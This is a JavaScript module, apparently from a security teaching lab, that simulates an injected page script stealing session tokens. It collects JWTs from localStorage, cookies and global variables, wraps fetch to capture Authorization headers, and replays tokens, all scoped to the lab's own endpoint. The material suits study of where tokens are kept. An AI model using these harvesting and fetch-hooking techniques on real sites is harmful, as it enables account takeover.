// Plays a script that somebody has smuggled into a page. It tries in earnest what such a script can do to the tokens
// of the storage lab. It takes only those, and sends nothing to anybody but the hub itself.

const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+/g;
const DOOR = "/lab/storage/whoami";
const ask = globalThis.fetch.bind(globalThis);

/** Where a token of the lab says that it is kept; nothing for any other text. */
export function keptIn(token) {
  try {
    return JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/"))).kept;
  } catch {
    return undefined;
  }
}

/** Tokens of the lab in a text. A real thief would not be choosy. */
const tokensIn = (text) => (String(text).match(TOKEN) ?? []).filter(keptIn);

/** Everything in localStorage is open to every script of the origin. */
export const fromStorage = () => tokensIn(Object.values(localStorage).join(" "));

/** So are cookies, but for those that are HttpOnly. */
export const fromCookies = () => tokensIn(document.cookie);

/** Whatever the page has left in global variables. Those of its modules cannot be reached. */
export function fromVariables() {
  const texts = Object.getOwnPropertyNames(globalThis).map((name) => {
    try {
      return typeof globalThis[name] === "string" ? globalThis[name] : JSON.stringify(globalThis[name]);
    } catch {
      return "";
    }
  });
  return tokensIn(texts.join(" "));
}

/** Wait for the page to send its token: from now on every fetch passes through here. Returns the way out. */
export function listen(heard) {
  const before = globalThis.fetch;
  globalThis.fetch = (address, options) => {
    const token = tokensIn(new Headers(options?.headers).get("authorization"))[0];
    if (token) heard(token);
    return before.call(globalThis, address, options);
  };
  return () => {
    globalThis.fetch = before;
  };
}

/** A request in the visitor's name: the browser adds the cookie that no script can read. */
export async function ride() {
  return (await ask(DOOR)).json();
}

/** What a token is worth on another machine: a request with nothing but what was carried off. */
export async function elsewhere(token) {
  return (await ask(DOOR, { credentials: "omit", headers: { authorization: `Bearer ${token}` } })).json();
}
